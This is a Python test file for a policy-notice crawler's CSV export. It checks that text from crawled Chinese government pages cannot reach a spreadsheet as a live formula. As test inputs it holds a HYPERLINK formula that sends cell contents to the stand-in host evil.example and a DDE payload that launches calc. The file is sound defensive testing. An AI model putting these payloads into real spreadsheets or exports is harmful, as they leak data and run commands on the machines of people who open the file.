"""`export --format csv` never hands a spreadsheet a live formula from crawled text (both backends)."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from html import escape

import pytest

from policywatch.cli import main
from policywatch.commands.export import csv_cell
from policywatch.flow import Page, record_page

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
NUMBER = "+1+cmd|'/Ccalc'!A0"  # no spaces: the normalizer folds spaces out of a 文号
T0 = datetime(2025, 6, 1, 9, 0)


def notice(measures: list[str]) -> bytes:
    """A gkmlpt-style notice (the layout of policywatch/demo/pages/zhaoqing-gkmlpt.html) with a hostile title."""
    items = "\n".join(f'<p style="text-indent:2em">{i}.{escape(m)}</p>' for i, m in enumerate(measures, 1))
    return f"""<!doctype html><html lang="zh"><head><meta charset="UTF-8"><title>{escape(TITLE)}</title>
<meta name="ArticleTitle" content="{escape(TITLE)}"></head><body>
<div class="content"><h1 class="title">{escape(TITLE)}</h1><div class="date-row">发布日期:2025-06-01</div>
<table class="classify"><tr><td>文号:</td><td>{escape(NUMBER)}</td><td>发布机构:</td><td>办公室</td></tr></table>
<div class="article-content"><p>各县(市、区)人民政府,市政府各部门:</p>
<p style="text-indent:2em">为做好有关工作,经市人民政府同意,现就有关事项通知如下。</p>
<p style="text-indent:2em"><strong>一、工作措施</strong></p>
{items}
</div></div></body></html>""".encode()


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+2", "'=1+2"),
        ("+86 10", "'+86 10"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("关于=1的通知", "关于=1的通知"),
        (0.5, 0.5),
        (None, None),
        (["=x"], '["=x"]'),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_export_csv_neutralizes_formulas(db, db_url, capsys):
    url = "http://example.gov.cn/p.html"
    record_page(db, Page(url=url, body=notice(["落实资金保障。", "加强督促检查。"]), site="s", fetched_at=T0))
    record_page(
        db,
        Page(
            url=url,
            body=notice(["落实资金保障。", "@SUM(1+1)加强督促检查。"]),
            site="s",
            fetched_at=T0 + timedelta(days=1),
        ),
    )
    assert main(["export", "--format", "csv", "--db", db_url]) == 0
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and {r["title"] for r in rows} == {"'" + TITLE}
    assert {r["doc_number"] for r in rows} == {"'" + NUMBER}
    assert any(r["new_text"].startswith("'@SUM(1+1)") for r in rows)
    for r in rows:
        for name, value in r.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    # and every cell is quoted, so no other separator can open a cell inside one
    assert out.splitlines()[1].startswith('"')
